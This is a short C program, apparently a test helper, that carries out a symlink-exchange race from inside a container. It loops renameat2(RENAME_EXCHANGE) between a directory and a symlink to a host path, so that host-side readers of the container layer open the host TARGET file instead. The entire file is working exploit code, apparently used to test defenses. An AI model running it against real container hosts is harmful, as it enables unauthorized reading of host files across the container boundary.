/*
 * The attack on host-side reads of a container's writable layer, run inside a container:
 *   racer DIR TARGET
 * makes DIR/d (a directory of ordinary files) and DIR/l (a symlink to TARGET, a path on the
 * *host*, where the host's own walk would resolve it), writes DIR/ready, then swaps d and l
 * with renameat2(RENAME_EXCHANGE) in a tight loop, forever. A host process that lstat()s
 * DIR/d, sees a directory and then opens DIR/d/... by path is, some of the time, reading
 * TARGET instead. Built static by the test (cc -static), so it runs in any image.
 *   racer --swap PATH TARGET
 * swaps an existing directory PATH (e.g. a /etc the container made its own) with PATH.l, a
 * symlink to TARGET, the same way.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int race(const char *a, const char *b)
{
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
            perror("racer: renameat2");
            return 1;
        }
    }
}

int main(int argc, char **argv)
{
    if (argc == 4 && !strcmp(argv[1], "--swap")) {
        char link[4096];
        snprintf(link, sizeof link, "%s.l", argv[2]);
        if (symlink(argv[3], link) < 0) {
            perror("racer: symlink");
            return 1;
        }
        return race(argv[2], link);
    }
    if (argc != 3) {
        fprintf(stderr, "usage: racer DIR TARGET\n");
        return 2;
    }
    if (mkdir(argv[1], 0755) < 0 || chdir(argv[1]) < 0 || mkdir("d", 0755) < 0) {
        perror("racer: setup");
        return 1;
    }
    for (int i = 0; i < 64; i++) {
        char name[32];
        snprintf(name, sizeof name, "d/own-%02d", i);
        int fd = open(name, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd < 0 || write(fd, "the container's own file\n", 25) != 25) {
            perror("racer: file");
            return 1;
        }
        close(fd);
    }
    if (symlink(argv[2], "l") < 0) {
        perror("racer: symlink");
        return 1;
    }
    int ready = open("ready", O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (ready < 0) {
        perror("racer: ready");
        return 1;
    }
    close(ready);
    return race("d", "l");
}
